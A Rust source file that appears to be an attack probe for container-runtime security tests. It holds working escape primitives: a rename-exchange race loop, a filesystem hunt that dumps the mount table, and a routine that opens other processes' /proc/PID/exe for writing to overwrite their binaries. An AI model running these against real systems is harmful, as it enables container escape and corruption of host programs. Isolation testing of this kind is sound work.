//! What an attacker runs: beside a container that is being made, or in one.

use std::collections::HashSet;
use std::fs::{self, File};
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, open, renameat2};
use nix::sys::stat::Mode;
use nix::sys::statfs::statfs;

/// `swap A B [C D]…`: exchanges the two of each pair for ever, at a pace that differs each time, so that whatever lies
/// between two system calls of somebody else is hit. Ends when they are gone.
pub fn swap(pairs: &[&str]) {
    // Also with a test that is killed.
    let _ = nix::sys::prctl::set_pdeathsig(nix::sys::signal::Signal::SIGKILL);
    let mut noise = std::process::id() | 1;
    loop {
        for pair in pairs.chunks(2) {
            let [one, other] = pair else { panic!("probe: swap wants pairs") };
            if renameat2(AT_FDCWD, *one, AT_FDCWD, *other, RenameFlags::RENAME_EXCHANGE).is_err() {
                return;
            }
            noise ^= noise << 13;
            noise ^= noise >> 17;
            noise ^= noise << 5;
            // A third of the time at once, else after up to some hundred microseconds.
            let pause = if noise.is_multiple_of(3) { 0 } else { noise % 50_000 };
            (0..pause).for_each(|_| std::hint::spin_loop());
        }
    }
}

/// Entries looked at; more than any container of a test has, fewer than a host's root would take long for.
const MOST: usize = 20_000;

/// `hunt NAME`: every file or directory of this name that can be reached, as `found PATH`; then the mount table.
pub fn hunt(name: &str) {
    let mut left = MOST;
    let mut open = vec![PathBuf::from("/")];
    while let Some(dir) = open.pop() {
        if is_made_by_the_kernel(&dir) {
            continue;
        }
        for entry in fs::read_dir(&dir).into_iter().flatten().flatten() {
            left = left.saturating_sub(1);
            if entry.file_name().to_str() == Some(name) {
                println!("found {}", entry.path().display());
            }
            if left > 0 && entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                open.push(entry.path());
            }
        }
    }
    print!(
        "{}",
        fs::read_to_string("/proc/self/mountinfo").unwrap_or_else(|error| format!("no mount table: {error}\n"))
    );
}

/// procfs, sysfs, cgroup2, devpts, mqueue: nothing of the host's files is there, and trees without an end are.
fn is_made_by_the_kernel(dir: &Path) -> bool {
    const TYPES: [u32; 5] = [0x9fa0, 0x6265_6572, 0x6367_7270, 0x1cd1, 0x1980_0202];
    statfs(dir).is_ok_and(|found| TYPES.iter().any(|kind| i128::from(*kind) == i128::from(found.filesystem_type().0)))
}

/// `overwrite SECONDS MARK`: takes hold of the program of every other process (`/proc/PID/exe`) and tries to open it for
/// writing until that succeeds, then writes MARK over its beginning and says MARK and its name. Says `ready` first, and
/// each kind of refusal once.
pub fn overwrite(seconds: u64, mark: &str) {
    println!("ready");
    let end = Instant::now() + Duration::from_secs(seconds);
    let identity = |file: &str| fs::metadata(file).map(|file| (file.dev(), file.ino())).ok();
    let own = ["/proc/self/exe", "/bin/busybox"].map(identity);
    let mut held: Vec<OwnedFd> = Vec::new();
    let mut seen = HashSet::new();
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let exe = entry.path().join("exe");
            let Ok(fd) = open(&exe, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) else { continue };
            // Not ourselves and not the containers' programs. It is what is held that counts: between a look at the link
            // and the opening the process may have gone on to another program.
            let path = path_of(&fd);
            if own.contains(&identity(&path)) || held.len() > 200 {
                continue;
            }
            let target = fs::read_link(&path).unwrap_or_default();
            if seen.insert(target.display().to_string()) {
                println!("holds {}", target.display());
            }
            held.push(fd);
        }
        for fd in &held {
            let again = path_of(fd);
            match open(again.as_str(), OFlag::O_WRONLY | OFlag::O_CLOEXEC, Mode::empty()) {
                Ok(file) => {
                    // A sealed copy in memory can be opened, and no more.
                    match File::from(file).write_all(mark.as_bytes()) {
                        Ok(()) => return println!("{mark} {:?}", fs::read_link(&again)),
                        Err(error) if seen.insert(error.to_string()) => println!("opened, {error}"),
                        Err(_) => {}
                    }
                }
                Err(errno) if seen.insert(format!("{errno:?}")) => println!("refused {errno:?}"),
                Err(_) => {}
            }
        }
    }
    println!("gave up with {} held", held.len());
}

fn path_of(fd: &OwnedFd) -> String {
    format!("/proc/self/fd/{}", fd.as_raw_fd())
}
